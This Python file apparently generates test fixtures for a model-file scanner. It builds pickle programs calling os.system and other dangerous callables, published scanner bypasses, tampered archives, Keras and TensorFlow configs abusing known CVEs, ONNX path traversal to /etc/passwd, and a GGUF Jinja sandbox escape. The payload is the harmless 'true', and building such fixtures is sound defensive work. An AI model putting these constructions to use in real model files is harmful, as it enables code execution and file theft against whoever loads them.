"""Ways by which scanners of models were passed by, as advisories and the scanners' own test suites publish them, made anew.

`files` gives (name, what it is, bytes, and perhaps what lies beside it); `whole` the same of files that only look like them. Programs are written opcode
by opcode: nothing of what they name need be here, and nothing is ever run. Read in November 2026: advisories of picklescan (GHSA), its
tests/init_data_files.py, fickling's test/test_bypasses.py and test_polyglot.py, modelscan's tests, and what was published of Keras
(CVE-2024-3660, CVE-2025-1550), ONNX (CVE-2024-27318), llama-cpp-python (CVE-2024-34359) and models in 7z on the Hub ("nullifAI").
"""
import bz2
import gzip
import io
import json
import lzma
import pathlib
import struct
import zipfile
import zlib

import numpy
import py7zr

PAYLOAD = "true"
# Module, name, and where it was told.
CALLED = [
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", "GHSA-4whj-rm5r-c2v8"),
    ("torch._dynamo.guards", "GuardBuilder.get", "GHSA-86cj-95qr-2p4f"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "GHSA-f4x7-rfwp-v3xw"),
    ("torch.utils.collect_env", "run_and_read_all", "GHSA-jhph-76pp-mggw"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "GHSA-h3qp-7fh3-f8h4"),
    ("torch.utils._config_module", "ConfigModule.load_config", "GHSA-vv6j-3g6g-2pvj"),
    ("torch._inductor.codecache", "compile_file", "picklescan"),
    ("torch.serialization", "load", "picklescan"),
    ("torch.storage", "_load_from_bytes", "fickling"),
    ("torch.distributed.elastic.rendezvous.api", "RendezvousHandlerRegistry.create_handler", "fickling"),
    ("trace", "Trace.run", "GHSA-5qwp-399c-mjwf"),
    ("profile", "Profile.run", "GHSA-x696-vm39-cp64"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", "GHSA-f54q-57x4-jg88"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", "GHSA-3vg9-h568-4w9m"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", "GHSA-6w4w-5w54-rjvr"),
    ("idlelib.calltip", "get_entity", "GHSA-9xph-j2h6-g47v"),
    ("idlelib.run", "Executive.runcode", "GHSA-m869-42cg-3xwr"),
    ("code", "InteractiveInterpreter.runcode", "GHSA-cj3c-v495-4xqh"),
    ("ensurepip", "_run_pip", "GHSA-xp4f-hrf8-rxw7"),
    ("doctest", "debug_script", "GHSA-fqq6-7vqf-w3fg"),
    ("distutils.file_util", "write_file", "GHSA-m273-6v24-x4m4"),
    ("pty", "spawn", "GHSA-vqmv-47xg-9wpr"),
    ("numpy.f2py.crackfortran", "getlincoef", "GHSA-r8g5-cgf2-4m4m"),
    ("pkgutil", "resolve_name", "GHSA-vvpj-8cmc-gx39"),
    ("uuid", "_get_command_stdout", "GHSA-g38g-8gr9-h9xp"),
    ("_osx_support", "_read_output", "GHSA-g38g-8gr9-h9xp"),
    ("_pyrepl.pager", "pipe_pager", "GHSA-g38g-8gr9-h9xp"),
    ("imaplib", "IMAP4_stream", "GHSA-g38g-8gr9-h9xp"),
    ("test.support.script_helper", "assert_python_ok", "GHSA-g38g-8gr9-h9xp"),
    ("logging", "FileHandler", "picklescan"),
    ("_io", "FileIO", "picklescan"),
    ("urllib.request", "urlopen", "picklescan"),
    ("ssl", "get_server_certificate", "picklescan"),
    ("pydoc", "pipepager", "picklescan"),
    ("venv", "create", "picklescan"),
    ("bdb", "Bdb.run", "picklescan"),
    ("sys", "exit", "picklescan"),
    ("requests.api", "get", "picklescan"),
    ("cloudpickle.cloudpickle", "_make_function", "picklescan"),
    ("types", "CodeType", "picklescan"),
    ("marshal", "loads", "fickling"),
    ("multiprocessing.util", "spawnv_passfds", "fickling"),
    ("importlib", "import_module", "fickling"),
    ("_posixsubprocess", "fork_exec", "fickling"),
    ("atexit", "register", "fickling"),
    ("smtplib", "SMTP", "fickling"),
    ("mailcap", "findmatch", "modelscan"),
    ("webbrowser", "open", "modelscan"),
]  # fmt: skip


def text(word):
    return b"\x8c" + bytes([len(word)]) + word.encode()


def named(module, name):
    return text(module) + text(name) + b"\x93"


def call(callee, *args):
    return callee + b"(" + b"".join(args) + b"tR"


def program(body):
    return b"\x80\x04" + body + b"."


SYSTEM = call(named("os", "system"), text(PAYLOAD))
EVIL = program(SYSTEM)

PROGRAMS = {
    "inst": ("INST of protocol 0", b"(S'1'\ni__builtin__\nexec\n."),
    "obj": ("OBJ", b"(cpty\nspawn\nS'true'\no."),
    "smashed": ("compile, globals, eval and apply, one after the other", b"c__builtin__\nglobals\n(tRp1\n0c__builtin__\ncompile\n(S'1'\nS''\nS'exec'\ntRp2\n0c__builtin__\neval\n(g2\ng1\ntR."),
    "by-memo": ("a name out of the memo", b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vtrue\ntR."),
    "memo-tail": ("a name out of the memo, and bytes behind", b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vtrue\ntR.\n\n\t\t"),
    "strings": ("STACK_GLOBAL of the old STRING (GHSA-9gvj-pp9x-gcfr)", b"S'os'\nS'system'\n\x93S'true'\n\x85R."),
    "memo-missing": ("a call, then a memo entry that is not there", b"\x80\x04cos\nsystem\nVtrue\n\x85R0\x8c\x02os\x94h\x03h\x00\x93KB."),
    "type-confused": ("a call, then a module that is a number", b"\x80\x04cos\nsystem\nVtrue\n\x85R0J*\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93KB."),
    "breaks-off": ("a call, then a text that never ends", b"cbuiltins\nexec\n(X\x04\x00\x00\x00" + b"truetRX."),
    "invalid-name": ("a call, then a name that is not UTF-8", b"cos\nsystem\n(S'true'\ntR0cmod\n\xf8\n."),
    "attrgetter": ("operator.attrgetter of an import", program(call(call(named("operator", "attrgetter"), text("system")), call(named("builtins", "__import__"), text("os"))))),
    "methodcaller": ("operator.methodcaller of what pydoc.locate finds", program(call(call(named("operator", "methodcaller"), text("system"), text(PAYLOAD)), call(named("pydoc", "locate"), text("os"))))),
    "partial": ("functools.partial of torch.load", program(call(named("functools", "partial"), named("torch.serialization", "load"), text("x.bin")))),
    "in-pickle": ("a program within a program", program(call(named("_pickle", "loads"), b"C" + bytes([len(EVIL)]) + EVIL))),
    "sys-modules": ("sys.modules with another module under a known name", program(named("sys", "modules") + text("torch._utils") + named("os", "__dict__") + b"s0" + call(named("torch._utils", "system"), text(PAYLOAD)))),
    "stacked": ("harmless, then another program behind it", b"\x80\x04]\x94(\x8c\x01a\x94e." + EVIL),
    "twice-proto": ("PROTO twice", b"\x80\x04\x80\x02" + SYSTEM + b"."),
    "never-used": ("a call whose result is thrown away", program(SYSTEM + b"0}")),
    "hidden-by-build": ("a call, then a state laid over it", program(SYSTEM + text("x") + b"b")),
    "extension": ("a code of the extension registry", b"\x80\x02\x82\x01."),
}  # fmt: skip


def zipped(members, method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def changed(data, old, new):
    assert old in data
    return data.replace(old, new, 1)


def flagged(data, bits):
    """Bits of the flags, in the directory and in the local header."""
    out = bytearray(data)
    for magic, at in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)]:
        out[data.index(magic) + at] |= bits
    return bytes(out)


def message(*fields):
    """Protocol buffers: (number, int | bytes)."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += bytes([number << 3]) + varint(value)
        else:
            out += bytes([number << 3 | 2]) + varint(len(value)) + value
    return out


def varint(value):
    out = b""
    while True:
        out += bytes([value & 127 | (128 if value > 127 else 0)])
        value >>= 7
        if value == 0:
            return out


# What TensorFlow itself saved: the program, and beside it variables, assets and a fingerprint.
SAVED_MODEL = pathlib.Path(__file__).parents[2] / "test/verify/fixtures/tensorflow/saved-model"


def saved_model(folder, op=None, in_function=False):
    """(name, bytes) of each file, the program first; with one more graph in it, or a function, that uses an operation."""
    graph = b""
    if op is not None:
        node = message((1, b"n"), (2, op.encode()))
        function = message((1, message((1, message((1, b"__inference"))), (3, node))))
        graph = message((2, message((1, message((4, b"serve"))), (2, message((2, function) if in_function else (1, node))))))
    program = SAVED_MODEL / "saved_model.pb"
    yield f"{folder}/{program.name}", program.read_bytes() + graph
    for path in SAVED_MODEL.rglob("*"):
        if path.is_file() and path != program:
            yield f"{folder}/{path.relative_to(SAVED_MODEL)}", path.read_bytes()


def onnx(location):
    entry = lambda key, value: message((1, key), (2, value))  # noqa: E731
    tensor = message((1, 4), (2, 1), (8, b"w"), (13, entry(b"location", location)), (14, 1))
    graph = message((1, message((1, b"w"), (2, b"y"), (4, b"Identity"))), (2, b"g"), (5, tensor))
    return message((1, 8), (7, graph), (8, message((1, b""), (2, 17))))


def gguf(template):
    word = lambda value: struct.pack("<Q", len(value)) + value  # noqa: E731
    keys = {b"general.architecture": b"llama", b"tokenizer.chat_template": template}
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(keys))
    head += b"".join(word(key) + struct.pack("<I", 8) + word(value) for key, value in keys.items())
    head += word(b"token_embd.weight") + struct.pack("<IQQIQ", 2, 8, 4, 0, 0)
    head += bytes(-len(head) % 32)
    return head + (numpy.random.default_rng(1).standard_normal(32) / 8).astype("<f4").tobytes()


PLAIN_TEMPLATE = b"{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}{% endfor %}"
EVIL_TEMPLATE = b"{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('true').read() }}{% endif %}{% endfor %}"


def keras_with(data, edit):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    edit(config)
    return zipped({**members, "config.json": json.dumps(config)})


def keras_layer(data, class_name, module="keras.layers", config=None):
    layer = {"module": module, "class_name": class_name, "config": {"name": "x", **(config or {})}, "registered_name": None}
    return keras_with(data, lambda model: model["config"]["layers"].append(layer))


def seven_zip(data):
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.writestr(data, "archive/data.pkl")
    return buffer.getvalue()


def objects(program):
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + program


def legacy(program, magic=b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."):
    """As torch wrote before 1.6: the number, the version, what the machine is like, the object, the keys of storages."""
    return b"\x80\x02" + magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + program + b"\x80\x02]."


def files(state, keras, with_program):
    for module, name, where in CALLED:
        yield f"{module}.{name}.pkl", f"{module}.{name} ({where})", program(call(named(module, name), text(PAYLOAD)))
    for name, (what, content) in PROGRAMS.items():
        yield f"{name}.pkl", what, content
        yield f"{name}.bin", f"{what}, in a file of torch", with_program(content)
    plain = zipped({"data.pkl": EVIL})
    yield "wrong-extension.zip", "a program named data.txt", zipped({"data.txt": EVIL})
    for bits in [0x1, 0x20, 0x40]:
        yield f"flag-{bits:#x}.zip", f"bits {bits:#x} of the flags", flagged(plain, bits)
    yield "two-names.zip", "another name in the directory than in the header", changed(plain, b"data.pkl", b"datap.kl")
    yield "crc.zip", "content that is not of its CRC", changed(plain, b"true", b"eurt")
    yield "before.zip", "a program before the archive", EVIL + plain
    yield "state-before.pt", "a program before a file of torch", EVIL + state
    yield "state-behind.pt", "a program behind a file of torch", state + EVIL
    yield "twice.pt", "data.pkl twice, the second evil", twice(state)
    yield "data.7z", "in 7z", seven_zip(EVIL)
    yield "model.pt", "7z under the name of torch", seven_zip(EVIL)
    yield "legacy.pt", "the old format of torch", legacy(EVIL)
    number = call(named("builtins", "eval"), text("0x1950a86a20f9469cfc6c"))
    yield "legacy-number.pt", "the old format, its number made by eval", legacy(b"\x80\x02}.", number + b".")
    yield "picture.pt", "the head of a picture before a program", b"\x89PNG\r\n\x1a\n" + EVIL
    yield "objects.npz", "an array of objects in an archive", zipped({"a.npy": objects(EVIL)}, zipfile.ZIP_DEFLATED)
    yield "dns.npy", "an array whose object looks up a name", objects(program(call(named("ssl", "get_server_certificate"), text("x.invalid"))))
    for kind, pack in [("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress)]:
        yield f"{kind}.joblib", f"joblib, packed by {kind}", pack(EVIL)
    yield "plain.joblib", "joblib", EVIL
    yield "lambda-inside.keras", "a Lambda within a wrapper", keras_layer(keras, "TimeDistributed", config={"layer": {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None, "closure": None}}}, "registered_name": None}})
    yield "any-module.keras", "a function of any module (CVE-2025-1550)", keras_layer(keras, "function", "builtins", {"function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}})
    yield "popen.keras", "subprocess.Popen for a layer", keras_layer(keras, "Popen", "subprocess", {"args": ["true"]})
    yield "get-file.keras", "keras.utils.get_file for a layer", keras_layer(keras, "get_file", "keras.utils", {"fname": "x", "origin": "file:///etc/passwd"})
    yield "graph.keras", "a graph from elsewhere (TFSMLayer)", keras_layer(keras, "TFSMLayer", config={"filepath": "/tmp/x"})
    yield "custom.keras", "a class of nobody", keras_layer(keras, "Thing", "a_stranger")
    for op in ["ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "EagerPyFunc", "WholeFileReader"]:
        (name, content), *beside = saved_model(op, op)
        yield name, f"a graph of TensorFlow with {op}", content, beside
    (name, content), *beside = saved_model("function", "WriteFile", in_function=True)
    yield name, "a function in the graph with WriteFile", content, beside
    yield "outside.onnx", "external data outside of its folder (CVE-2024-27318)", onnx(b"../../../etc/passwd")
    yield "absolute.onnx", "external data by an absolute path", onnx(b"/etc/passwd")
    yield "template.gguf", "a chat template that leaves its sandbox (CVE-2024-34359)", gguf(EVIL_TEMPLATE)


def twice(state):
    buffer = io.BytesIO(state)
    with zipfile.ZipFile(buffer, "a") as archive:
        first = next(name for name in archive.namelist() if name.endswith("data.pkl"))
        archive.writestr(first, EVIL)
    return buffer.getvalue()


def whole(keras):
    """Without anything evil in them, of the same kinds."""
    harmless = program(b"}\x94(\x8c\x01a\x94K\x01u")
    (name, content), *beside = saved_model("graph")
    yield name, "a graph of TensorFlow with its variables", content, beside
    yield "template.gguf", "a chat template", gguf(PLAIN_TEMPLATE)
    yield "plain.zip", "an archive of plain pickles", zipped({"data.pkl": harmless})
    for kind, pack in [("zlib", zlib.compress), ("xz", lzma.compress)]:
        yield f"{kind}.joblib", f"a dict, packed by {kind}", pack(harmless)
    yield "data.7z", "7z", seven_zip(harmless)
    yield "dropout.keras", "a layer more", keras_layer(keras, "Dropout", config={"rate": 0.1})
